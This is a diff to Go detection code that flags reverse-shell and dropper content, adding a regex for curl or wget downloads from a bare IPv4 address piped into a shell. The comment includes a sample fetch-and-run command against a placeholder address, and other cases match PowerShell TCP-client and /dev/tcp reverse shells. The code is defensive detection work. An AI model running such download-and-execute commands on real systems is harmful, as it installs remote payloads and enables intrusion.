@@ -179,9 +179,17 @@ func reverseShellFile(lc string) bool {
 		return true
 	case strings.Contains(lc, "net.sockets.tcpclient") && strings.Contains(lc, "getstream()") && (strings.Contains(lc, "iex") || strings.Contains(lc, "invoke-expression")):
 		return true
+	case (strings.Contains(lc, "curl") || strings.Contains(lc, "wget")) && strings.Contains(lc, "sh") && reIPCradle.MatchString(lc):
+		// curl http://203.0.113.7/b | sh: a dropper that fetches its
+		// payload from a bare address and runs it. Install scripts
+		// fetch from named hosts.
+		return true
 	}
 	return false
 }
+
+// reIPCradle: a download from an IPv4 address piped into a shell.
+var reIPCradle = regexp.MustCompile(`(?:curl|wget)\b[^\n|;]*?\bhttps?://\d{1,3}(?:\.\d{1,3}){3}\b[^\n|;]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b`)
 
 var reDevTCP = regexp.MustCompile(`/dev/(?:tcp|udp)/[a-z0-9.\-\[\]:]+/\d+`)
 
